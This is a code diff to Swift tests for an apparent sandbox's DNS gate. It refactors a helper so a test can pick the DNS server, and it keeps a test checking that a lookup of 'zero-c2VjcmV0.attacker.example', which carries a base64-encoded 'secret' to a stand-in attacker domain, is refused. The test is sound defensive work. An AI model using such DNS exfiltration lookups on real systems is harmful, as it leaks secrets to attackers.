@@ -41,12 +41,14 @@ struct DNSGateTests {
         }
     }
 
-    static func run(_ nameserver: Nameserver, profile: String, _ arguments: [String]) throws -> Harness.Result {
+    /// dns_client.py under riptides with `nameserver` as the gate's; the
+    /// client sends to `server` (the nameserver's address unless given).
+    static func run(_ nameserver: Nameserver, profile: String, server: String? = nil, _ arguments: [String]) throws -> Harness.Result {
         var environment = ProcessInfo.processInfo.environment
         environment["RIPTIDES_RESOLV_CONF"] = nameserver.resolvConf
         return try Harness.riptides(
             ["exec", "--isolation", "netns", "--profile", profile, "--", "/usr/bin/env", "python3",
-             Harness.packageRoot.appendingPathComponent("Tests/Agents/dns_client.py").path, nameserver.address] + arguments,
+             Harness.packageRoot.appendingPathComponent("Tests/Agents/dns_client.py").path, server ?? nameserver.address] + arguments,
             environment: environment)
     }
 
@@ -143,12 +145,7 @@ struct DNSGateTests {
                 to: [127.0.0.1]
                 ports: [53]
             """)
-        var environment = ProcessInfo.processInfo.environment
-        environment["RIPTIDES_RESOLV_CONF"] = nameserver.resolvConf
-        let result = try Harness.riptides(
-            ["exec", "--isolation", "netns", "--profile", profile, "--", "/usr/bin/env", "python3",
-             Harness.packageRoot.appendingPathComponent("Tests/Agents/dns_client.py").path, "0.0.0.0", "zero-c2VjcmV0.attacker.example"],
-            environment: environment)
+        let result = try Self.run(nameserver, profile: profile, server: "0.0.0.0", ["zero-c2VjcmV0.attacker.example"])
         #expect(result.reports["zero-c2VjcmV0.attacker.example"] == "rcode5 answers=0", "\(result.stdout)")
         usleep(200_000)
         #expect(nameserver.askedNames.isEmpty, "\(nameserver.askedNames)")
